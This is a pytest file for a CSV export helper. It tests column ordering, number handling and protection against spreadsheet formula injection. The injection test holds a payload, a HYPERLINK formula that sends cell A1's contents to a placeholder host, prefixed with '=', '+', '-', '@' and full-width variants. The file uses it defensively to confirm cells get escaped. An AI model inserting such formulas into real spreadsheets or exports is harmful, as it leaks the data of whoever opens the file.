from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from facerec.report.csv_tables import to_csv


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def test_columns_come_in_order_of_their_first_row() -> None:
    content = to_csv([{"b": 1, "a": None}, {"a": "x, y", "c": 0.1 + 0.2}])
    assert content == b'b,a,c\n1,,\n,"x, y",0.30000000000000004\n'
    assert to_csv([]) == b"\n"


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(sign: str) -> None:
    text = f'{sign}HYPERLINK("http://x/?"&A1;"a")'
    # In the header too, and behind a comma, which makes a cell of its own only if it is quoted.
    for row in read(to_csv([{text: text, "name": f"a,{text}"}])):
        assert len(row) == 2 and not row[0].startswith(sign) and not row[1].startswith(sign)
    assert read(to_csv([{text: text}])) == [[f"'{text}"], [f"'{text}"]]


def test_numbers_and_other_names_stay_as_they_are() -> None:
    row = {"a": -1, "b": -0.5, "c": np.float32(-0.1), "d": "a=b", "e": "1e-3", "f": True}
    assert read(to_csv([row]))[1] == ["-1", "-0.5", "-0.1", "a=b", "1e-3", "True"]
